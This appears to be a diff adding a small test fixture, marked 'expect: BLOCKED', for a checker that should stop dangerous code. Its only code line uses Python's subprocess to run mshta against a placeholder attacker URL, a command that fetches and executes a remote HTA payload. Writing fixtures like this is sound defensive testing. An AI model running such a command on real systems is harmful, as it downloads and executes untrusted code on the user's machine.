@@ -1,0 +1,3 @@
+# expect: BLOCKED
+import subprocess
+subprocess.Popen("mshta http://evil.test/a.hta", shell=True)
